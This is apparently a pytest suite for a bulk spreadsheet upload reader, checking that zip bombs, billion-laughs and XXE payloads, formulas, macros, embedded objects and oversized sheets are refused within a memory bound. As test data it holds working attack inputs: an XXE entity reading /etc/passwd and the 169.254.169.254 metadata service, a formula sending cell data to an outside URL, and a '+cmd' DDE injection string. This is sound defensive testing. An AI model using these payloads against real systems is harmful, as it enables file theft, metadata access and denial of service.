"""Hostile files (QUALITY D3–D7): each refused with its catalogue code and bounded work.

Bounded work is asserted, not timed: peak Python memory (tracemalloc) stays under 64 MB, the
zip bomb never reaches openpyxl, and an over-long sheet is abandoned after 302 data rows."""

from __future__ import annotations

import io
import socket
import tracemalloc
import zipfile

import openpyxl
import pytest
from openpyxl.worksheet import _reader

from filings.xlsx import FAMILIES, BulkFileError, build_template, read_upload
from filings.xlsx.reader import STAMP_PREFIX
from tests.filings.bulk.conftest import TODAY, fill, make_rows, rewrite, sheet_xml

MEMORY_BOUND = 64 * 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture(scope="module")
def template() -> bytes:
    return build_template("snapshot", "en", choices={}, today=TODAY)


@pytest.fixture(scope="module")
def valid(template) -> bytes:
    return fill(template, make_rows("snapshot", 3))


def refused(content: bytes, filename: str = "people.xlsx") -> tuple[BulkFileError, int]:
    """The error `read_upload` raises and the peak memory it took."""
    tracemalloc.start()
    try:
        with pytest.raises(BulkFileError) as caught:
            read_upload(content, filename)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return caught.value, peak


def header_rows() -> list[tuple[int, list[str]]]:
    family = FAMILIES["snapshot"]
    return [(1, list(family.columns)), (2, [*family.columns, STAMP_PREFIX + family.stamp])]


def person(number: int) -> list[str]:
    values = make_rows("snapshot", 1, start=number)[0]
    return [v.isoformat() if hasattr(v, "isoformat") else str(v) for v in values.values()]


def test_a_zip_bomb_is_refused_before_openpyxl_sees_it(template, monkeypatch):
    opened = []
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: opened.append(a))
    bomb = b"<x>" + b"0" * (200 * 1024 * 1024) + b"</x>"
    content = rewrite(template, {SHEET: bomb})
    del bomb
    assert len(content) < 1024 * 1024
    error, peak = refused(content)
    assert error.code == "E-BULK-TOO-COMPLEX"
    assert opened == []
    assert peak < MEMORY_BOUND


def test_a_zip_with_thousands_of_parts_is_refused(template):
    parts = {f"xl/media/image{i}.png": b"x" for i in range(10_000)}
    error, peak = refused(rewrite(template, parts))
    assert error.code == "E-BULK-TOO-COMPLEX"
    assert peak < MEMORY_BOUND


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">
<si><t>&lol4;</t></si></sst>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE sst [<!ENTITY secret SYSTEM "file:///etc/passwd">
<!ENTITY cloud SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2">
<si><t>&secret;</t></si><si><t>&cloud;</t></si></sst>"""


@pytest.fixture
def no_network(monkeypatch):
    attempts = []

    def refuse(self, address, *args):
        attempts.append(address)
        raise OSError("network access in a test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    return attempts


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/workbook.xml"])
@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "xxe"])
def test_entities_in_any_xml_part_are_refused(valid, part, payload, no_network):
    error, peak = refused(rewrite(valid, {part: payload}))
    assert error.code == "E-BULK-UNREADABLE"
    assert "root:" not in str(error)
    assert no_network == []
    assert peak < MEMORY_BOUND


def test_defusedxml_refuses_entities_even_without_our_pre_scan(valid, no_network):
    """The second line of defence: openpyxl parses with defusedxml here."""
    from defusedxml import DefusedXmlException

    assert openpyxl.DEFUSEDXML is True
    content = rewrite(valid, {"xl/workbook.xml": XXE})
    with pytest.raises(ValueError) as caught:
        openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    assert isinstance(caught.value.__cause__ or caught.value, DefusedXmlException)
    assert no_network == []


def test_a_utf16_part_cannot_hide_a_declaration(valid):
    error, _peak = refused(rewrite(valid, {"xl/sharedStrings.xml": XXE.decode().encode("utf-16")}))
    assert error.code == "E-BULK-UNREADABLE"


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://x/?"&A1,"a")', "=1+1", "=SUM(A1)"])
def test_a_formula_is_refused_naming_its_cell(template, formula):
    workbook = openpyxl.load_workbook(io.BytesIO(fill(template, make_rows("snapshot", 8))))
    workbook.worksheets[0]["D7"] = formula
    buffer = io.BytesIO()
    workbook.save(buffer)
    error, _peak = refused(buffer.getvalue())
    assert (error.code, error.cell, error.params) == ("E-BULK-FORMULA", "D7", {"cell": "D7"})


def test_text_that_looks_like_a_formula_is_just_text(template):
    rows = make_rows("snapshot", 2)
    rows[1]["address_rest"] = "+cmd|' /C calc'!A0"
    workbook = openpyxl.load_workbook(io.BytesIO(fill(template, rows)))
    cell = workbook.worksheets[0]["A4"]
    cell.value, cell.data_type = "@SUM(A1)", "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    sheet = read_upload(buffer.getvalue(), "people.xlsx")
    assert sheet.rows[1].values["name_latin"] == "@SUM(A1)"
    assert sheet.rows[1].values["address_rest"] == "+cmd|' /C calc'!A0"


def test_an_xlsm_is_refused_by_its_name(valid):
    error, _peak = refused(valid, "people.xlsm")
    assert error.code == "E-BULK-MACRO"


def test_a_vba_project_renamed_xlsx_is_refused(valid):
    error, _peak = refused(rewrite(valid, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"0" * 512}))
    assert error.code == "E-BULK-MACRO"


def test_a_macro_enabled_content_type_is_refused(valid):
    types = (
        zipfile.ZipFile(io.BytesIO(valid))
        .read("[Content_Types].xml")
        .replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
    )
    error, _peak = refused(rewrite(valid, {"[Content_Types].xml": types}))
    assert error.code == "E-BULK-MACRO"


def test_embedded_objects_and_external_links_are_refused(valid):
    error, _peak = refused(rewrite(valid, {"xl/embeddings/oleObject1.bin": b"x" * 100}))
    assert error.code == "E-BULK-EMBEDDED"
    error, _peak = refused(rewrite(valid, {"xl/externalLinks/externalLink1.xml": b"<x/>"}))
    assert error.code == "E-BULK-EMBEDDED"


def test_a_csv_renamed_xlsx_is_not_a_workbook():
    content = b"name_latin,birth_date\nNGUYEN THI LAN,2003-04-15\n"
    error, _peak = refused(content, "people.xlsx")
    assert error.code == "E-BULK-NOT-XLSX"


def test_an_old_xls_renamed_xlsx_is_not_a_workbook():
    error, _peak = refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096, "people.xlsx")
    assert error.code == "E-BULK-NOT-XLSX"


def test_a_file_over_the_size_limit_is_refused(settings, valid):
    settings.PORTAL_BULK_MAX_BYTES = len(valid) - 1
    error, _peak = refused(valid)
    assert error.code == "E-BULK-FILE-TOO-LARGE"


def test_fifty_sheets_only_the_first_is_read(template):
    workbook = openpyxl.load_workbook(io.BytesIO(fill(template, make_rows("snapshot", 3))))
    for index in range(50):
        extra = workbook.create_sheet(f"extra{index}")
        for row in range(1, 200):
            extra.cell(row=row, column=1, value=f"noise {row}")
    buffer = io.BytesIO()
    workbook.save(buffer)
    tracemalloc.start()
    try:
        sheet = read_upload(buffer.getvalue(), "people.xlsx")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(sheet.rows) == 3
    assert peak < MEMORY_BOUND


def test_a_dimension_claiming_a_million_rows_is_not_believed(template):
    rows = [*header_rows(), (3, person(0)), (1_000_000, person(1))]
    content = rewrite(template, {SHEET: sheet_xml(rows, dimension="A1:Z1048576")})
    tracemalloc.start()
    try:
        sheet = read_upload(content, "people.xlsx")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [row.number for row in sheet.rows] == [3, 1_000_000]
    assert peak < MEMORY_BOUND


def test_too_many_real_rows_stop_the_reading_at_the_first_one_too_many(template, monkeypatch):
    rows = [*header_rows(), *((3 + i, person(i)) for i in range(2_000))]
    content = rewrite(template, {SHEET: sheet_xml(rows, dimension="A1:I2002")})
    yielded = []
    real_parse = _reader.WorkSheetParser.parse

    def counting(self):
        for item in real_parse(self):
            yielded.append(item[0])
            yield item

    monkeypatch.setattr(_reader.WorkSheetParser, "parse", counting)
    error, peak = refused(content)
    assert error.code == "E-BULK-TOO-MANY-ROWS"
    assert len(yielded) <= 2 + 301
    assert peak < MEMORY_BOUND


def test_endless_blank_formatted_rows_are_refused_not_walked(template):
    rows = [*header_rows(), (3, person(0))]
    blank = "".join(f'<row r="{n}"><c r="A{n}" s="0"/></row>' for n in range(4, 20_004))
    xml = sheet_xml(rows).replace(b"</sheetData>", blank.encode() + b"</sheetData>")
    error, peak = refused(rewrite(template, {SHEET: xml}))
    assert error.code == "E-BULK-TOO-COMPLEX"
    assert peak < MEMORY_BOUND
